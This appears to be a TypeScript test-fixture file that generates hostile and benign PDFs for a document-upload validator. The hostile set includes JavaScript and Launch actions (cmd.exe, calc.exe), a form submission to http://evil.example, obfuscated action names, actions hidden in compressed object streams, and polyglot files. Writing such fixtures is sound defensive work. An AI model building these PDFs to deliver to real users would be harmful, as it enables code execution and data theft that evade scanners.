import { deflateSync } from "node:zlib";
import { makePdf } from "../dicom";
import { type Dice, either, fuzzed, refused, type Sample, taken } from "./sample";

/** Puts objects into a PDF file with a table of places. */
function fileOf(objects: readonly (string | Buffer)[], root = 1, more = ""): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const places: number[] = [];
  let at = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from("\nendobj\n"),
    ]);
    places.push(at);
    at += part.length;
    parts.push(part);
  }
  const rows = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root ${root} 0 R ${more} >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table)]);
}

const PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>";

const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);

/** Objects kept compressed, where a plain search sees nothing. */
function hiding(object: string, dictionary = "/Filter /FlateDecode"): Buffer {
  const plain = Buffer.from(`9 0 ${object}`);
  const packed = dictionary.includes("Flate") ? deflateSync(plain) : plain;
  const catalog = "<< /Type /Catalog /Pages 2 0 R /Names 9 0 R >>";
  return fileOf([catalog, PAGES, PAGE, stream(`/Type /ObjStm /N 1 /First 4 ${dictionary}`, packed)]);
}

const catalogWith = (entries: string) =>
  fileOf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, PAGES, PAGE]);

const ACTS: Record<string, string> = {
  javascript: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
  "javascript-spelled": "/OpenAction << /S /J#61va#53cript /JS (1) >>",
  "javascript-in-names": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>",
  launch: "/OpenAction << /S /Launch /F (cmd.exe) >>",
  "launch-on-close": "/AA << /WC << /S /Launch /Win << /F (calc.exe) >> >> >>",
  "embedded-file": "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 3 0 R >> >>] >> >>",
  attachment: "/AF [<< /Type /Filespec /EF << /F << /Type /EmbeddedFile >> >> >>]",
  xfa: "/AcroForm << /XFA 3 0 R /Fields [] >>",
  submit: "/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
  "import-data": "/OpenAction << /S /ImportData /F (x.fdf) >>",
  "go-to-embedded": "/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>",
  "rich-media": "/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]",
};

export function hostilePdfs(dice: Dice): Sample[] {
  const good = makePdf([["Echo"], ["Page two"]]);
  const script = "<< /S /JavaScript /JS (1) >>";
  const kids = Array.from({ length: 3_000 }, () => "3 0 R").join(" ");
  return [
    ...Object.entries(ACTS).map(([name, entries]) => refused(`${name}.pdf`, catalogWith(entries))),
    refused("hidden-script.pdf", hiding(script)),
    refused("hidden-launch.pdf", hiding("<< /S /Launch /F (a.exe) >>")),
    refused("hidden-spelled.pdf", hiding("<< /S /#4aavaScript /JS (1) >>")),
    refused("hidden-in-ascii.pdf", hiding(script, "/Filter /ASCIIHexDecode")),
    refused("hidden-twice.pdf", hiding(script, "/Filter [/ASCII85Decode /FlateDecode]")),
    refused("hidden-file.pdf", hiding("<< /EmbeddedFiles 5 0 R >>")),
    refused(
      "locked.pdf",
      fileOf(
        [
          "<< /Type /Catalog /Pages 2 0 R >>",
          PAGES,
          PAGE,
          `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${"ab".repeat(32)}> /U <${"cd".repeat(32)}> >>`,
        ],
        1,
        "/Encrypt 4 0 R /ID [<00> <00>]",
      ),
    ),
    refused(
      "strange-lock.pdf",
      fileOf(
        ["<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, "<< /Filter /Vendor /V 9 >>"],
        1,
        "/Encrypt 4 0 R",
      ),
    ),
    refused("nothing-more.pdf", Buffer.from("%PDF-1.7 and nothing more")),
    refused("only-mark.pdf", Buffer.from("%PDF-")),
    refused("then-noise.pdf", Buffer.concat([Buffer.from("%PDF-1.4\n"), dice.bytes(5_000)])),
    refused(
      "pages-of-itself.pdf",
      fileOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    ),
    refused("no-pages.pdf", fileOf(["<< /Type /Catalog >>"])),
    refused("page-then-program.pdf", Buffer.concat([Buffer.from("MZ"), good])),
    refused("page-in-web.pdf", Buffer.concat([Buffer.from("<html><script>1</script>"), good])),
    either(
      "hundred-thousand-pages.pdf",
      fileOf(["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${kids}] /Count 100000 >>`, PAGE]),
    ),
    either(
      "huge-page.pdf",
      fileOf(["<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE.replace("200 200", "99999999 99999999")]),
    ),
    either("pdf-and-zip.pdf", Buffer.concat([good, Buffer.from("PK\x03\x04"), dice.bytes(200)])),
    ...[1, 2, 3].map((part) =>
      either(`cut-${part}.pdf`, good.subarray(0, Math.floor((good.length * part) / 4))),
    ),
    ...Array.from({ length: 18 }, (_, n) => either(`fuzzed-${n}.pdf`, fuzzed(good, dice, 9, 2 + n * 3))),
  ];
}

export function goodPdfs(): Sample[] {
  const catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>";
  const link = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://clinic.example) >> >>] >>`;
  const outline = "<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>";
  return [
    taken("report.pdf", makePdf([["Echo report"]])),
    taken("pages.pdf", makePdf(Array.from({ length: 40 }, (_, n) => [`Page ${n}`]))),
    taken("opens-at-page.pdf", fileOf([catalog, PAGES, PAGE])),
    taken("link.pdf", fileOf(["<< /Type /Catalog /Pages 2 0 R >>", PAGES, link])),
    taken(
      "metadata.pdf",
      fileOf([outline, PAGES, PAGE, stream("/Type /Metadata /Subtype /XML", Buffer.from("<x:xmpmeta/>"))]),
    ),
    taken("objects-packed.pdf", hiding("<< /Dests << >> >>")),
    taken("scan-tail.pdf", Buffer.concat([makePdf([["Scan"]]), Buffer.from("\n\n")])),
  ];
}
